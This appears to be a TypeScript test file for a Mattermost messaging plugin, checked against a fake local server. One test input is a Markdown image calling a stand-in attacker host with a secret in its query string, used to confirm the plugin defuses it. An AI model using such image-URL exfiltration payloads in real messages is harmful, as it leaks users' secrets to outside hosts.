// Replies on Mattermost, through a fake server on loopback that refuses what the real one refuses.
import { Client4 } from '@mattermost/client'
import { describe, expect, it } from 'vitest'
import { mattermostChannel } from '../../src/plugins/channels/mattermost.ts'
import { toOutgoing, openChannel, sectionOf } from '../unit/plugins/channels/stage.ts'
import { testTroubles } from './channel-troubles.ts'
import { refuse, startFakeMattermost, toDirectId } from './fakes/mattermost.ts'

const token = 'oi6k8wg3kfyjpx8kuz9e5u3jxo'
const room = 'town'.padEnd(26, 'x')
const ada = 'ada'.padEnd(26, 'x')
const section = sectionOf(mattermostChannel)

async function start(config: object = {}) {
  const fake = await startFakeMattermost({ token, channels: [room], users: { ada } })
  const channel = openChannel(mattermostChannel, section.parse({ token, baseUrl: fake.baseUrl, ...config }))
  return { channel, fake, to: room, secret: token }
}

it('a reply in Mattermost is Markdown without mentions or pictures', async () => {
  const { channel, fake, to } = await start()
  const text = '**Done** @channel @ada ![a](https://evil.example/?secret=1) `npm i @scope/x`'
  expect(await channel.send(toOutgoing({ to, text }))).toMatchObject({
    kind: 'sent',
    id: expect.stringMatching(/^post1/),
  })
  expect(fake.posted).toEqual([
    {
      channel_id: room,
      message: '**Done** @\u200Bchannel @\u200Bada [a](<https://evil.example/?secret=1>) `npm i @scope/x`',
      pending_post_id: 'nonce-1',
    },
  ])
})

it('the request for a message is the one that Mattermost’s own client makes', async () => {
  const { channel, fake, to } = await start()
  await channel.send(toOutgoing({ to }))
  const client = new Client4()
  client.setUrl(fake.url)
  client.setToken(token)
  await client.createPost({ channel_id: room, message: 'The build is green.', pending_post_id: 'nonce-1' })
  const [ours, theirs] = fake.received
  expect([ours?.method, ours?.path, ours?.body]).toEqual([theirs?.method, theirs?.path, theirs?.body])
  expect(ours?.headers.authorization?.toLowerCase()).toBe(theirs?.headers.authorization?.toLowerCase())
})

it('a person is reached by id and by name, and the direct channel is opened once for the id and once for the name', async () => {
  const { channel, fake } = await start()
  for (const to of [`user:${ada}`, `user:${ada}`, '@ada']) await channel.send(toOutgoing({ to }))
  expect(fake.posted.map((post) => post.channel_id)).toEqual([toDirectId(ada), toDirectId(ada), toDirectId(ada)])
  expect(fake.received.filter(({ path }) => path.endsWith('/channels/direct'))).toHaveLength(2)
})

it('a message to a person whom the server does not know fails permanently', async () => {
  const { channel, fake } = await start()
  expect(await channel.send(toOutgoing({ to: '@nobody' }))).toEqual({
    kind: 'permanent',
    detail:
      'Mattermost answered 404 (app.user.missing_account.const). The channel or the user does not exist. Check the id, and baseUrl.',
  })
  expect(fake.posted).toEqual([])
})

it('the error for a channel without the bot says where to add it', async () => {
  const { channel } = await start()
  const result = await channel.send(toOutgoing({ to: 'other'.padEnd(26, 'x') }))
  expect(result).toMatchObject({ kind: 'permanent', detail: expect.stringContaining('Add it to the team') })
})

it('a retry waits until the end of the rate limit window that the server names', async () => {
  const { channel, fake, to } = await start()
  fake.planAnswers({ status: 429, headers: { 'x-ratelimit-reset': '4' }, body: 'limit exceeded' })
  expect(await channel.send(toOutgoing({ to }))).toMatchObject({ kind: 'rate-limited', retryAfterMs: 4_000 })
})

it('an attempt with an unknown result is not repeated, because the server forgets a pending id after half a minute', async () => {
  const { channel, fake, to } = await start()
  fake.planAnswers(refuse(500, 'api.post.deduplicate_create_post.pending'))
  expect(await channel.send(toOutgoing({ to }))).toMatchObject({ kind: 'ambiguous' })
  expect(channel.dedupes).toBe(false)
})

it('a probe of Mattermost names the bot, or says that the token is wrong without showing it', async () => {
  const { channel, fake } = await start()
  const { signal } = new AbortController()
  expect(await channel.probe?.(signal)).toEqual({ ok: true, detail: 'Mattermost accepts the token of @hooks.' })
  const wrong = openChannel(mattermostChannel, section.parse({ token: 'wrong-one', baseUrl: fake.baseUrl }))
  const probe = await wrong.probe?.(signal)
  expect(probe).toMatchObject({ ok: false, detail: expect.stringContaining('channels.mattermost.token') })
  expect(probe?.detail).not.toContain('wrong-one')
})

describe('faults of the connection to Mattermost', () => {
  testTroubles((options) => start(options))
})
